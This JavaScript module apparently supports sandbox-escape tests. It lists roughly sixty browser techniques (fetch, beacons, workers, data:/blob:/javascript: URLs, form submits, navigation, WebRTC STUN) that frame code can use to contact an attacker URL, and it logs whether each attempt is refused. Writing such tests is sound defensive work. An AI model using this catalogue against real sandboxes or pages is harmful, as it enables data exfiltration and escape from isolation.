/** Helpers that each attempt finds in scope beside `U`, the attacker's URL. */
const helpers = `
  const add = (name, properties, parent = document.body) => {
    const node = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) node.setAttribute(key, value);
    parent.append(node);
    return node;
  };
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const page = '<meta http-equiv="refresh" content="0;url=' + U + '"><img src="' + U + '">' +
    '<script>location = ' + JSON.stringify(U) + '<\\/script>';
  const script = 'fetch(' + JSON.stringify(U) + ').catch(() => {})';
`;

/** Ways to make a request from inside a frame: name and code. */
export const escapes = {
  fetch: `fetch(U, { mode: 'no-cors' })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', U); x.send();`,
  sendBeacon: `navigator.sendBeacon(U, 'x')`,
  WebSocket: `new WebSocket(U.replace('http', 'ws'))`,
  EventSource: `new EventSource(U)`,
  WebTransport: `new WebTransport(U.replace('http', 'https'))`,
  'dynamic import': `await import(U)`,
  'script element': `add('script', { src: U })`,
  'module script': `add('script', { type: 'module', src: U })`,
  'inline script': `add('script', {}).textContent = script; document.body.append(document.scripts[0]);`,
  'inline handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="fetch(\\'' + U + '\\')">')`,
  'data: script': `add('script', { src: 'data:text/javascript,' + encodeURIComponent(script) })`,
  'blob: script': `add('script', { src: blob(script, 'text/javascript') })`,
  image: `new Image().src = U`,
  srcset: `add('img', { srcset: U + ' 1x' })`,
  audio: `add('audio', { src: U, preload: 'auto' }).load()`,
  'video poster': `add('video', { poster: U, src: U })`,
  font: `const f = new FontFace('x', 'url(' + U + ')'); document.fonts.add(f); await f.load();`,
  'CSS url': `ui.setCss('body { background: url(' + U + ') }'); ui.display('x');`,
  'CSS @import': `add('style', {}).textContent = '@import url(' + U + ');'`,
  stylesheet: `add('link', { rel: 'stylesheet', href: U })`,
  prefetch: `add('link', { rel: 'prefetch', href: U }, document.head)`,
  preload: `add('link', { rel: 'preload', as: 'image', href: U }, document.head)`,
  modulepreload: `add('link', { rel: 'modulepreload', href: U }, document.head)`,
  preconnect: `add('link', { rel: 'preconnect', href: U }, document.head)`,
  prerender: `add('script', { type: 'speculationrules' }).textContent =
    JSON.stringify({ prefetch: [{ source: 'list', urls: [U] }], prerender: [{ source: 'list', urls: [U] }] })`,
  icon: `add('link', { rel: 'icon', href: U }, document.head)`,
  manifest: `add('link', { rel: 'manifest', href: U }, document.head)`,
  'SVG image': `document.body.insertAdjacentHTML('beforeend',
    '<svg><image href="' + U + '"/><use href="' + U + '#x"/></svg>')`,
  object: `add('object', { data: U })`,
  embed: `add('embed', { src: U })`,
  'nested frame': `add('iframe', { src: U })`,
  'srcdoc frame': `add('iframe', { srcdoc: page })`,
  'blob: frame': `add('iframe', { src: blob(page, 'text/html') })`,
  'form submit': `add('form', { action: U, method: 'post' }).submit()`,
  'form submit to the top': `add('form', { action: U, target: '_top' }).submit()`,
  'window.open': `open(U)`,
  'window.open in itself': `open(U, '_self')`,
  'top navigation': `top.location = U`,
  'parent navigation': `parent.location = U`,
  'link to the top': `add('a', { href: U, target: '_top' }).click()`,
  'link to a new window': `add('a', { href: U, target: '_blank' }).click()`,
  'link in place': `add('a', { href: U }).click()`,
  download: `add('a', { href: U, download: 'x' }).click()`,
  'link ping': `add('a', { href: '#x', ping: U }).click()`,
  'blob: worker': `new Worker(blob(script, 'text/javascript'))`,
  'blob: worker that imports': `new Worker(blob('importScripts(' + JSON.stringify(U) + ')', 'text/javascript'))`,
  'data: worker': `new Worker('data:text/javascript,' + encodeURIComponent(script))`,
  'data: module worker': `new Worker('data:text/javascript,' + encodeURIComponent('import(' + JSON.stringify(U) + ')'), { type: 'module' })`,
  'location =': `location = U`,
  'location.assign': `location.assign(U)`,
  'location.replace': `location.replace(U)`,
  'navigation.navigate': `navigation.navigate(U)`,
  'meta refresh': `add('meta', { 'http-equiv': 'refresh', content: '0;url=' + U }, document.head)`,
  'blob: document': `location = blob(page, 'text/html')`,
  'data: document': `location = 'data:text/html,' + encodeURIComponent(page)`,
  'javascript: URL': `location = 'javascript:' + encodeURIComponent(script)`,
  'document.write': `document.open(); document.write(page); document.close();`,
  'base element': `add('base', { href: U }, document.head); new Image().src = 'relative';`,
};

/** Ways to send packets with WebRTC; `stun` is the attacker's UDP address. */
export const webRtcEscapes = {
  directly: `use(window)`,
  'by another name': `use(Object.getPrototypeOf(window)); use(self.window.globalThis);`,
  'from a blank frame': `use(add('iframe', {}).contentWindow)`,
  'from a srcdoc frame': `add('iframe', { srcdoc: '<script>' + stunScript + '<\\/script>' })`,
  'from a blob: document': `location = blob('<script>' + stunScript + '<\\/script>', 'text/html')`,
  'from a javascript: frame': `add('iframe', { src: 'javascript:' + stunScript })`,
};

/** Panel code that tries a way to reach `url`; it logs "tried" before and what stopped it after. */
export function escapeCode(url, code) {
  return `const U = ${JSON.stringify(url)};${helpers}
    console.log('tried');
    try { ${code} } catch (error) { console.log('refused: ' + error.name); }`;
}

/** The same for WebRTC, with the attacker's UDP port. */
export function webRtcCode(port, code) {
  const connect = `(scope) => {
    const c = new (scope.RTCPeerConnection || scope.webkitRTCPeerConnection)(
      { iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    c.createDataChannel('x');
    c.createOffer().then((offer) => c.setLocalDescription(offer));
  }`;
  return escapeCode(
    '',
    `const use = ${connect}; const stunScript = '(' + use + ')(window)'; ${code}`,
  );
}
